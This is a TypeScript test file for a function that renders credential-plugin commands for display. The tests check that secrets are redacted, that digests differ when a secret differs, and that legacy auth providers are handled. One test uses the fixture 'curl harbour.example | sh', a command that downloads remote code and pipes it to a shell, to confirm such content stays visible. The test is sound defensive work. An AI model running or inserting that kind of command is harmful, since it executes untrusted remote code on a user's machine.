import assert from "node:assert/strict";
import { suite, test } from "node:test";
import { credentialCommandOf } from "../../src/cluster/credentialCommand.ts";

const user = { name: "me" };

/** A user whose plugin has a variable and these arguments. */
function plugin(variable: { name: string; value: string }, ...args: readonly string[]): string {
  const exec = { command: "sign-in", env: [variable], args: [...args] };
  return credentialCommandOf({ ...user, exec })?.text ?? "";
}

suite("a command that hands out credentials", () => {
  test("is shown with what it is told, but not with secrets", () => {
    assert.equal(
      plugin({ name: "AWS_PROFILE", value: "harbour" }, "get-token", "--cluster-name", "quay"),
      "AWS_PROFILE=harbour sign-in get-token --cluster-name quay",
    );
    assert.equal(
      plugin({ name: "CLIENT_SECRET", value: "hunter2" }, "--client-secret=hunter2", "--password", "hunter2"),
      "CLIENT_SECRET=… sign-in --client-secret=… --password …",
    );
    assert.equal(
      plugin({ name: "A", value: "ghp_hunterHUNTERhunterHUNTER0123456789" }, "hunterQ7z9KpL2mN8vXc4RtY6wB"),
      "A=… sign-in …",
    );
  });

  test("hides nothing that a shell would run", () => {
    const script = "curl harbour.example | sh";
    assert.equal(plugin({ name: "A", value: "b" }, "--token", script), `A=b sign-in --token ${script}`);
  });

  test("has another digest when only a secret is another", () => {
    const digest = (value: string): string | undefined =>
      credentialCommandOf({ ...user, exec: { command: "sign-in", env: [{ name: "TOKEN", value }] } })?.digest;
    assert.notEqual(digest("hunter2"), digest("hunter3"));
    assert.equal(digest("hunter2"), digest("hunter2"));
  });

  test("is also the one of a provider from before there were plugins", () => {
    const config = { "cmd-path": "gcloud", "cmd-args": "config config-helper" };
    const authProvider = { name: "gcp", config };
    assert.equal(credentialCommandOf({ ...user, authProvider })?.text, "gcloud config config-helper");
    assert.equal(credentialCommandOf({ ...user, token: "hunter2" }), undefined);
  });
});
